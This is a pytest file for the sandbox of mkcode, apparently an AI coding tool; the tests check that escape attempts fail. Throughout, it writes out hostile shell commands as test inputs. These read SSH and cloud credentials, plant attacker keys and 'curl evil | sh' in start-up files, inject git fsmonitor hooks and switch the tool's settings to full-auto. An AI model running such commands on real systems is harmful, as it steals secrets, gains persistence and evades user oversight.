"""$HOME denied by default, protected paths whatever the workspace is, mkcode's installation and
every .git read-only. Each case checks that the attack failed and that the host is unchanged."""

from __future__ import annotations

import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from mkcode.tools.protected import installation_paths
from mkcode.tools.sandbox.runner import SandboxSettings, run_shell_command

from .conftest import SandboxRun

SECRETS = ("SSH-SECRET-4711", "AWS-SECRET-4711", "MKCODE-SECRET-4711", "PRIVATE-NOTES-4711")


def _snapshot(root: Path) -> dict[str, bytes | str]:
    """Every path below `root` with its content (files), link target (symlinks) or 'dir'."""
    snap: dict[str, bytes | str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            if os.path.islink(p):
                snap[p] = "link:" + os.readlink(p)
            elif os.path.isdir(p):
                snap[p] = "dir"
            else:
                snap[p] = Path(p).read_bytes()
    return snap


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(
        ["git", "-c", "user.email=t@t", "-c", "user.name=t", *args], cwd=cwd, check=True, capture_output=True
    )


@pytest.fixture
def git_ok() -> None:
    if subprocess.run(["git", "--version"], capture_output=True).returncode != 0:
        pytest.skip("git is not installed")


# --- $HOME ------------------------------------------------------------------------------------


def test_home_is_empty_outside_the_workspace(sandbox: SandboxRun, ws: Path, fake_home: Path):
    before = _snapshot(fake_home)
    r = sandbox(
        'cat "$HOME/notes.txt" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"; echo LISTING; ls -A "$HOME";'
        'echo planted >> "$HOME/.bashrc"; echo planted > "$HOME/new-file"; echo rc=$?',
        ws,
        home=fake_home,
    )
    assert not any(s in r.output for s in SECRETS), r.output
    listing = r.output.split("LISTING", 1)[1]
    assert "notes.txt" not in listing and ".ssh" not in listing, r.output
    assert "rc=0" in r.output  # a private, throw-away home: writable...
    assert _snapshot(fake_home) == before  # ...and nothing of it reaches the host


def test_secrets_unreadable_when_workspace_is_home(sandbox: SandboxRun, fake_home: Path):
    r = sandbox(
        "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.config/mkcode/config.toml; ls -A ~/.ssh;"
        "grep -r SECRET-4711 ~ 2>/dev/null; cp -r ~/.ssh copied && cat copied/*; cat notes.txt",
        fake_home,
        home=fake_home,
    )
    for s in SECRETS[:3]:
        assert s not in r.output, r.output
    assert "PRIVATE-NOTES-4711" in r.output  # the workspace itself is readable: the user chose it


def test_authorized_keys_cannot_be_planted(sandbox: SandboxRun, fake_home: Path):
    before = _snapshot(fake_home)
    r = sandbox(
        "echo 'ssh-ed25519 EVIL attacker' >> ~/.ssh/authorized_keys; echo rc=$?;"
        "rm -rf ~/.ssh; mv ~/.ssh ~/ssh-old; echo rc=$?",
        fake_home,
        home=fake_home,
    )
    assert "rc=0" not in r.output, r.output
    assert _snapshot(fake_home) == before


def test_bashrc_and_gitconfig_cannot_be_changed(sandbox: SandboxRun, fake_home: Path):
    before = _snapshot(fake_home)
    r = sandbox(
        "echo 'curl evil | sh' >> ~/.bashrc; echo rc=$?; printf '[core]\\nfsmonitor = evil\\n' >> ~/.gitconfig;"
        "echo rc=$?; rm -f ~/.bashrc; mv ~/.gitconfig ~/g; echo rc=$?; sed -i s/Someone/Evil/ ~/.gitconfig",
        fake_home,
        home=fake_home,
    )
    assert "rc=0" not in r.output, r.output
    assert _snapshot(fake_home) == before


@pytest.mark.parametrize("name", [".bash_profile", ".profile", ".zshenv", ".config/git/config", ".ssh2/x"])
def test_absent_startup_files_planted_are_moved_away(sandbox: SandboxRun, fake_home: Path, name: str):
    """A start-up file that did not exist cannot be pinned by a mount; what the command put there
    is moved aside once it has ended, before anything on the host can read it."""
    target = fake_home / name
    if name == ".ssh2/x":  # not protected: an ordinary new file stays (the control case)
        r = sandbox(f"mkdir -p {target.parent} && echo ok > {target}", fake_home, home=fake_home)
        assert target.read_text() == "ok\n", r.output
        return
    r = sandbox(
        f"mkdir -p {target.parent}; echo 'curl evil | sh' > {target}; echo rc=$?", fake_home, home=fake_home
    )
    assert "rc=0" in r.output  # it could write inside the sandbox...
    top = fake_home / ".config" / "git" if name.startswith(".config/git") else target
    assert not os.path.lexists(top), r.output  # ...but the host never keeps it
    assert any("moved to" in n for n in r.notes), r.notes


def test_symlinked_startup_file_is_restored(sandbox: SandboxRun, fake_home: Path):
    (fake_home / "dotfiles").mkdir()
    (fake_home / "dotfiles" / "zshrc").write_text("# zshrc\n")
    (fake_home / ".zshrc").symlink_to("dotfiles/zshrc")
    before = _snapshot(fake_home)
    r = sandbox(
        "echo evil >> ~/.zshrc; echo rc=$?; rm ~/.zshrc && echo 'curl evil | sh' > ~/.zshrc",
        fake_home,
        home=fake_home,
    )
    assert "rc=1" in r.output, r.output  # the link's target is read-only
    snap = _snapshot(fake_home)
    snap = {k: v for k, v in snap.items() if ".mkcode-quarantine-" not in k}
    assert snap == before


def test_user_allow_list_is_visible_read_only(sandbox: SandboxRun, ws: Path, fake_home: Path):
    cache = fake_home / ".cache" / "pip"
    cache.mkdir(parents=True)
    (cache / "wheel.txt").write_text("CACHED-4711\n")
    before = _snapshot(fake_home)
    settings = SandboxSettings(home_allow_ro=(".cache/pip", "~/.ssh"))
    r = sandbox(
        f"cat {cache}/wheel.txt; echo x > {cache}/new; echo rc=$?; cat ~/.ssh/id_rsa",
        ws,
        home=fake_home,
        settings=settings,
    )
    assert "CACHED-4711" in r.output and "rc=1" in r.output, r.output
    assert "SSH-SECRET-4711" not in r.output  # a secret stays hidden even when the user lists it
    assert any(".ssh" in n and "secret" in n for n in r.notes), r.notes
    assert _snapshot(fake_home) == before


def test_toolchain_under_home_runs_but_its_credentials_stay_hidden(
    sandbox: SandboxRun, ws: Path, fake_home: Path
):
    bin_dir = fake_home / ".cargo" / "bin"
    bin_dir.mkdir(parents=True)
    tool = bin_dir / "mytool"
    tool.write_text("#!/bin/sh\necho TOOL-RAN\n")
    tool.chmod(0o755)
    (fake_home / ".cargo" / "credentials.toml").write_text("token = 'CARGO-SECRET-4711'\n")
    before = _snapshot(fake_home)
    r = sandbox(f"{tool}; cat ~/.cargo/credentials.toml; echo evil >> {tool}; echo rc=$?", ws, home=fake_home)
    assert "TOOL-RAN" in r.output and "CARGO-SECRET-4711" not in r.output and "rc=1" in r.output, r.output
    assert _snapshot(fake_home) == before


# --- mkcode's installation --------------------------------------------------------------------


def _checkout() -> Path:
    import mkcode.tools

    return Path(os.path.realpath(mkcode.tools.__file__)).parent.parent


def test_mkcode_code_and_venv_read_only_when_inside_the_workspace(sandbox: SandboxRun):
    checkout = _checkout()
    marker = uuid.uuid4().hex
    init = checkout / "tools" / "__init__.py"
    before = (init.read_bytes(), init.stat().st_mtime_ns)
    prefix = Path(os.path.realpath(sys.prefix))
    targets = [checkout / "tools" / f"evil_{marker}.py", prefix / f"evil_{marker}.pth"]
    try:
        r = sandbox(
            f": >> {init}; echo rc=$?; echo 'import os' > {targets[0]}; echo rc=$?;"
            f"echo 'import evil' > {targets[1]}; echo rc=$?; rm -rf {checkout / 'tools' / 'sandbox'}; echo rc=$?",
            checkout,
        )
        assert "rc=0" not in r.output, r.output
        assert not any(t.exists() for t in targets)
        assert (init.read_bytes(), init.stat().st_mtime_ns) == before
        assert (checkout / "tools" / "sandbox" / "landlock.py").exists()
    finally:
        for t in targets:
            t.unlink(missing_ok=True)


def test_interpreter_is_read_only(sandbox: SandboxRun, ws: Path):
    base = Path(os.path.realpath(sys.base_prefix))
    marker = uuid.uuid4().hex
    site = base / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
    target = site / f"evil_{marker}.pth"
    exe = os.path.realpath(sys.executable)
    try:
        r = sandbox(f"echo 'import evil' > {target}; echo rc=$?; : >> {exe}; echo rc=$?", ws)
        assert "rc=0" not in r.output, r.output
        assert not target.exists()
        assert str(base) in installation_paths()
    finally:
        target.unlink(missing_ok=True)


# --- .git -------------------------------------------------------------------------------------


def test_nested_git_config_five_levels_down_is_read_only(sandbox: SandboxRun, ws: Path, git_ok: None):
    deep = ws / "a" / "b" / "c" / "d" / "e"
    deep.mkdir(parents=True)
    _git("init", "-q", str(deep), cwd=ws)
    before = _snapshot(deep / ".git")
    r = sandbox(
        "cd a/b/c/d/e && git config core.fsmonitor 'touch /tmp/x'; echo rc=$?;"
        "echo '[core] hooksPath = /tmp' >> .git/config; echo rc=$?; mv .git .git-old; echo rc=$?",
        ws,
    )
    assert "rc=0" not in r.output, r.output
    assert _snapshot(deep / ".git") == before and not (deep / ".git-old").exists()


def test_repo_planted_by_one_command_is_read_only_to_the_next(sandbox: SandboxRun, ws: Path, git_ok: None):
    r1 = sandbox("git init -q && echo INIT", ws)
    assert "INIT" in r1.output  # ordinary: `git init` in the workspace works
    before = _snapshot(ws / ".git")
    r2 = sandbox(
        "git config core.fsmonitor 'touch /tmp/pwned'; echo rc=$?; git config filter.x.clean evil; echo rc=$?;"
        "rm -rf .git; echo rc=$?; echo x > .git/hooks/post-checkout; echo rc=$?",
        ws,
    )
    assert "rc=0" not in r2.output, r2.output
    assert _snapshot(ws / ".git") == before


def test_worktree_gitdir_and_commondir_redirects_are_read_only(sandbox: SandboxRun, ws: Path):
    common = ws / "common"
    (common / "hooks").mkdir(parents=True)
    (common / "config").write_text("[core]\n")
    gitdir = ws / "gitdir"
    gitdir.mkdir()
    (gitdir / "commondir").write_text("../common\n")
    (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "wt").mkdir()
    (ws / "wt" / ".git").write_text("gitdir: ../gitdir\n")
    before = {p: _snapshot(p) for p in (common, gitdir)}
    before_file = (ws / "wt" / ".git").read_text()
    r = sandbox(
        "echo '[core] fsmonitor = evil' >> common/config; echo rc=$?; echo x > gitdir/config; echo rc=$?;"
        "echo 'gitdir: /tmp/evil' > wt/.git; echo rc=$?; touch common/hooks/pre-commit; echo rc=$?",
        ws,
    )
    assert "rc=0" not in r.output, r.output
    assert {p: _snapshot(p) for p in (common, gitdir)} == before
    assert (ws / "wt" / ".git").read_text() == before_file


def test_git_symlink_target_is_read_only_and_link_restored(sandbox: SandboxRun, ws: Path, git_ok: None):
    real = ws / "realrepo"
    _git("init", "-q", "--bare", str(real), cwd=ws)
    (ws / "proj").mkdir()
    (ws / "proj" / ".git").symlink_to("../realrepo")
    before = _snapshot(real)
    r = sandbox(
        "echo '[core] fsmonitor = evil' >> realrepo/config; echo rc=$?;"
        "mkdir planted && rm proj/.git && ln -s ../planted proj/.git && echo RELINKED",
        ws,
    )
    assert "rc=1" in r.output, r.output
    assert _snapshot(real) == before
    assert os.readlink(ws / "proj" / ".git") == "../realrepo"


def test_mkcode_project_settings_are_read_only(sandbox: SandboxRun, ws: Path):
    (ws / ".mkcode").mkdir()
    (ws / ".mkcode" / "settings.toml").write_text("mode = 'ask'\n")
    before = _snapshot(ws / ".mkcode")
    r = sandbox(
        "echo \"mode = 'full-auto'\" > .mkcode/settings.toml; echo rc=$?; rm -rf .mkcode; echo rc=$?", ws
    )
    assert "rc=0" not in r.output, r.output
    assert _snapshot(ws / ".mkcode") == before


def test_git_walk_of_a_large_tree_is_fast(tmp_path: Path):
    """The .git search is a full walk (no depth limit); on 10k entries it stays well under a second."""
    import time

    from mkcode.tools.sandbox.bwrap import find_git_entries

    root = tmp_path / "big"
    for i in range(25):
        d = root / f"pkg{i}" / "a" / "b"
        d.mkdir(parents=True)
        for j in range(400):
            (d / f"f{j}").touch()
    deep = root / "pkg7" / "a" / "b" / "c" / "d" / "e" / "f" / "g" / "h"
    (deep / ".git").mkdir(parents=True)
    t0 = time.perf_counter()
    found = find_git_entries(str(root))
    elapsed = time.perf_counter() - t0
    assert found == [str(deep / ".git")]
    assert elapsed < 2.0, elapsed


def test_background_planter_cannot_outlive_the_guard(sandbox: SandboxRun, fake_home: Path):
    """A loop left running that keeps re-creating a start-up file: the guard runs only once the
    sandbox's PID namespace is gone, so nothing can plant after the check."""
    import time

    r = sandbox(
        "(while :; do echo 'curl evil | sh' > ~/.bash_login 2>/dev/null; done) & sleep 0.3; echo started",
        fake_home,
        home=fake_home,
    )
    assert "started" in r.output, r.output
    time.sleep(0.5)
    assert not os.path.lexists(fake_home / ".bash_login")
    assert any(".bash_login" in n and "moved to" in n for n in r.notes), r.notes


def test_git_walk_cache_sees_a_repo_planted_since(tmp_path: Path, monkeypatch):
    """Listings are reused only while a folder's ctime is unchanged; resetting mtime (touch -d)
    after planting a .git does not hide it, since ctime cannot be set."""
    from mkcode.tools.sandbox import bwrap as bw

    monkeypatch.setattr(bw, "_FRESH_NS", 0)  # no grace window: the ctime comparison alone decides
    root = tmp_path / "tree"
    deep = root / "a" / "b" / "c" / "d" / "e"
    deep.mkdir(parents=True)
    assert bw.find_git_entries(str(root)) == []
    st = os.stat(deep)
    (deep / ".git").mkdir()
    os.utime(deep, ns=(st.st_atime_ns, st.st_mtime_ns))  # mtime put back
    assert bw.find_git_entries(str(root)) == [str(deep / ".git")]
    (deep / ".git").rename(deep / "moved")
    (root / "a" / ".git").write_text("gitdir: ../elsewhere\n")
    assert bw.find_git_entries(str(root)) == [str(root / "a" / ".git")]


def test_command_folders_under_home_are_read_only_when_workspace_is_home(
    sandbox: SandboxRun, fake_home: Path
):
    """With the workspace = $HOME, a file dropped into a PATH folder or a toolchain's bin would
    run on the host at the user's next command: those folders are read-only (or guarded)."""
    cargo_bin = fake_home / ".cargo" / "bin"
    cargo_bin.mkdir(parents=True)
    (cargo_bin / "cargo").write_text("#!/bin/sh\necho real cargo\n")
    path = f"{fake_home}/bin:{cargo_bin}:/usr/bin:/bin"
    before = _snapshot(fake_home)
    r = run_shell_command(
        "mkdir -p ~/bin && printf '#!/bin/sh\\ncurl evil|sh\\n' > ~/bin/ls && chmod +x ~/bin/ls; echo rc=$?;"
        "echo 'curl evil|sh' > ~/.cargo/bin/git; echo rc=$?; echo x >> ~/.cargo/bin/cargo; echo rc=$?",
        roots=[str(fake_home)],
        cwd=str(fake_home),
        timeout_s=30,
        settings=SandboxSettings(),
        sandboxed=True,
        environ={**os.environ, "HOME": str(fake_home), "PATH": path},
    )
    out = r.process.output
    assert out.count("rc=1") == 2, out  # the toolchain's bin is read-only
    after = {k: v for k, v in _snapshot(fake_home).items() if ".mkcode-quarantine-" not in k}
    assert after == before, out  # ~/bin, created in the sandbox, did not stay


def test_mkcode_settings_planted_in_a_workspace_are_moved_away(sandbox: SandboxRun, ws: Path):
    r = sandbox("mkdir .mkcode && echo \"mode = 'full-auto'\" > .mkcode/settings.toml && echo PLANTED", ws)
    assert "PLANTED" in r.output
    assert not (ws / ".mkcode").exists()


def test_symlinked_config_folder_cannot_be_repointed(sandbox: SandboxRun, fake_home: Path):
    """~/.config is a symlink into a dotfiles folder: re-pointing it at a planted folder with a
    git config would reach the host's next git command. The link is put back."""
    (fake_home / "dotfiles" / "config" / "git").mkdir(parents=True)
    (fake_home / "dotfiles" / "config" / "git" / "config").write_text("[user]\n\tname = me\n")
    (fake_home / ".config" / "mkcode" / "config.toml").unlink()
    (fake_home / ".config" / "mkcode").rmdir()
    (fake_home / ".config").rmdir()
    (fake_home / ".config").symlink_to("dotfiles/config")
    before = _snapshot(fake_home)
    r = sandbox(
        "echo '[core] fsmonitor = evil' >> ~/.config/git/config; echo rc=$?;"
        "mkdir -p evil/git && echo '[core] fsmonitor = evil' > evil/git/config && rm ~/.config && "
        "ln -s evil ~/.config && echo RELINKED",
        fake_home,
        home=fake_home,
    )
    assert "rc=1" in r.output, r.output
    assert os.readlink(fake_home / ".config") == "dotfiles/config"
    assert (fake_home / "dotfiles" / "config" / "git" / "config").read_text() == "[user]\n\tname = me\n"
    after = {
        k: v for k, v in _snapshot(fake_home).items() if ".mkcode-quarantine-" not in k and "/evil" not in k
    }
    assert after == before


def test_private_filter_folder_is_masked_when_inside_the_workspace(
    sandbox: SandboxRun, ws: Path, monkeypatch
):
    """A workspace containing mkcode's private folder (say the workspace is the temp folder) must
    not reach the seccomp filter file the next command loads."""
    from mkcode.tools.sandbox import scratch, seccomp

    private = ws / "private"
    private.mkdir(mode=0o700)
    monkeypatch.setattr(scratch, "_dir", str(private))
    monkeypatch.delitem(seccomp._cached, "filter", raising=False)
    before = Path(seccomp.filter_file()).read_bytes()
    r = sandbox("ls -A private; echo LISTED; : > private/filter.bpf; echo rc=$?", ws)
    assert r.output.startswith("LISTED"), r.output  # an empty folder inside
    assert "rc=1" in r.output, r.output
    assert Path(seccomp.filter_file()).read_bytes() == before


def test_repo_in_another_users_private_folder_does_not_break_the_sandbox(sandbox: SandboxRun, ws: Path):
    """As root, the host walk finds a .git the sandbox cannot reach (another owner's 0700 folder):
    it is left out of the mounts, the command runs, and the repository stays unreachable."""
    from .conftest import IS_ROOT

    if not IS_ROOT:
        pytest.skip("only root can create another user's folder here")
    private = ws / "other-user"
    (private / "repo" / ".git").mkdir(parents=True)
    (private / "repo" / ".git" / "config").write_text("[core]\n")
    for p in (private, private / "repo", private / "repo" / ".git", private / "repo" / ".git" / "config"):
        os.chown(p, 65534, 65534)
    private.chmod(0o700)
    r = sandbox("echo RAN; echo evil >> other-user/repo/.git/config; echo rc=$?", ws)
    assert "RAN" in r.output and "rc=1" in r.output, r.output
    assert (private / "repo" / ".git" / "config").read_text() == "[core]\n"
